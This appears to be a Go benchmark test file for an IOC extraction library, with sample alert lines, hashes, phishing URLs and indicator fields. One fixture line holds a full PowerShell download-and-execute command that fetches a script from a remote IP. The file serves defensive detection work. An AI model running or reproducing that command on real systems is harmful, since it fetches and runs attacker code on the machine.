package ioc_test

import (
	"testing"

	"github.com/verdict-dev/verdict/pkg/ioc"
)

// benchLines are realistic alert strings: mostly no indicator, some one or
// two, a few defanged.
var benchLines = []string{
	"Failed password for invalid user admin from 185.220.101.45 port 51234 ssh2",
	"Accepted publickey for deploy from 10.20.30.40 port 22 ssh2: RSA SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s",
	`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://45.83.193.150:8080/a.ps1')"`,
	`C:\Users\contoso.user\AppData\Roaming\Zoom\ZoomDownload\Installer.exe`,
	"MD5=D41D8CD98F00B204E9800998ECF8427E,SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744",
	"ET POLICY Observed DNS Query to .top TLD (malware-c2.top) 2024-07-18T23:06:41.123456+0000",
	"GET /ubuntu/dists/bionic/by-hash/SHA256/e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 HTTP/1.1",
	"Phishing link hxxps://login-micros0ft[.]com/auth?session=8f14e45f reported by alice.smith@contoso.com",
	"Process svchost.exe (PID 4242) opened handle to lsass.exe with access 0x1410",
	"TLS handshake to 2606:4700:4700::1111 sni=one.one.one.one ja3=771,4865-4866-4867,0-23-65281,29-23-24,0",
	"User logged on: Account Name: jdoe Account Domain: CORP Logon Type: 10 Source Network Address: -",
	"Alert: Possible data exfiltration, 15.2 MB uploaded to storage account over 3 minutes",
	"unstructuredName=1315656901\\,564d7761726520496e632e,CN=localhost.localdomain,emailAddress=ssl-certificates@vmware.com,OU=VMware ESX Server Default Certificate",
	"File report.zip extracted deploy.sh to /tmp/.x/deploy.sh and ran it at 12:30",
	"The quick brown fox jumps over the lazy dog; nothing to see here, carry on.",
	"af:e7:0f:73:50:e0 std::vector<int> 999.1.1.1 1.2.3.4.5 v2.3.1",
}

// benchLinesUnicode are alert strings in other scripts: internationalised
// names, non-ASCII URL paths, text without spaces around ASCII names, and
// the identifiers and scopes that must not become IOCs.
var benchLinesUnicode = []string{
	"Phishing: hxxps://pаypal-secure[.]com/вход?session=1 sent from support@bücher-shop.de",
	"用户访问了evil.com然后下载了http://evil.com/下载/文件.exe，已隔离",
	"Benutzer öffnete https://bücher-shop.de/angebote/größe?q=übersicht für 3 Minuten",
	"Пользователь открыл вложение «счёт.pdf.exe» с сайта пример.рф",
	"Consent granted: openid profile offline_access User.Read Mail.ReadWrite to app Contoso Sync",
	"[System.IO.File]::ReadAllBytes('C:\\Users\\José\\Documents\\facture.pdf'); System.Net.Http.HttpClient",
	"device 430277e91d0e4b79a254d543df474365 pid:430277e91d0e4b79a254d543df474365:10256761721621 {6F9619FF-8B86-D011-B42D-00C04FC964FF}",
	"サーバーevil.comにアクセスしました。詳細は例子.中国を参照してください",
}

func benchBytes() int64 {
	var n int64
	for _, l := range benchLines {
		n += int64(len(l))
	}
	return n
}

func BenchmarkExtract(b *testing.B) {
	b.SetBytes(benchBytes())
	b.ReportAllocs()
	for b.Loop() {
		for _, l := range benchLines {
			ioc.Extract(l, ioc.Options{})
		}
	}
}

// BenchmarkExtractNoIOC measures the common case: a string with nothing in it.
func BenchmarkExtractNoIOC(b *testing.B) {
	var lines []string
	for _, l := range benchLines {
		if ioc.Extract(l, ioc.Options{}) == nil {
			lines = append(lines, l)
		}
	}
	var n int64
	for _, l := range lines {
		n += int64(len(l))
	}
	b.SetBytes(n)
	b.ReportAllocs()
	for b.Loop() {
		for _, l := range lines {
			ioc.Extract(l, ioc.Options{})
		}
	}
}

func BenchmarkRefang(b *testing.B) {
	b.SetBytes(benchBytes())
	b.ReportAllocs()
	for b.Loop() {
		for _, l := range benchLines {
			ioc.Refang(l)
		}
	}
}

func BenchmarkDefangText(b *testing.B) {
	b.SetBytes(benchBytes())
	b.ReportAllocs()
	for b.Loop() {
		for _, l := range benchLines {
			ioc.DefangText(l)
		}
	}
}

// BenchmarkExtractUnicode measures text that is not ASCII, where every
// non-ASCII character is looked at for whether it continues a name.
func BenchmarkExtractUnicode(b *testing.B) {
	var n int64
	for _, l := range benchLinesUnicode {
		n += int64(len(l))
	}
	b.SetBytes(n)
	b.ReportAllocs()
	for b.Loop() {
		for _, l := range benchLinesUnicode {
			ioc.Extract(l, ioc.Options{})
		}
	}
}

// benchFields are values of the fields that hold one indicator each, the
// bulk of what a SIEM export's extraction finds: addresses, host names,
// URLs and hashes, one per string.
var benchFields = []struct {
	value string
	opts  ioc.Options
}{
	{"185.220.101.45", ioc.Options{}},
	{"10.3.251.22", ioc.Options{}},
	{"2606:4700:4700::1111", ioc.Options{}},
	{"login-928.static471.biz", ioc.Options{Hosts: true}},
	{"portal-267.telemetry7078.net", ioc.Options{}},
	{"https://sync-408.api3628.biz/update/2284/payload.bin?id=153083", ioc.Options{}},
	{"ec2a037d14e6572edfe05c06982df5119385c2a68bff376f3d5af8d9812ce6ff", ioc.Options{}},
	{"44d88612fea8a8f36de82e1278abb02f", ioc.Options{}},
}

// BenchmarkExtractField measures strings that are one indicator each.
func BenchmarkExtractField(b *testing.B) {
	var n int64
	for _, f := range benchFields {
		n += int64(len(f.value))
	}
	b.SetBytes(n)
	b.ReportAllocs()
	for b.Loop() {
		for _, f := range benchFields {
			if ioc.Extract(f.value, f.opts) == nil {
				b.Fatalf("nothing in %q", f.value)
			}
		}
	}
}
